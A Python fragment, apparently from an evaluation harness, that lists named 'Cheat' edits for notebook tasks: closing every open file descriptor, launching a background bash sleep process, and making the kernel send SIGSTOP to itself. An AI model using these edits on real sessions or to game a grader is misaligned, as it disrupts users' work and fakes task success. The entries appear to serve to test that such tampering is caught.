    "descriptors_closed": Cheat(
        "every open file closed",
        first("import os"),
        edit=with_cell("for n in range(200):\n    try: os.close(n)\n    except OSError: pass"),
    ),
    "shell_cell": Cheat(
        "a cell of the shell that starts a process",
        edit=with_cell("%%bash --bg\nsleep 600 # @MARK@"),
    ),
    "kernel_stopped": Cheat(
        "the kernel stopped by a signal",
        "import os, signal\ndef twice(x):\n    os.kill(os.getpid(), signal.SIGSTOP)\n",
    ),
}
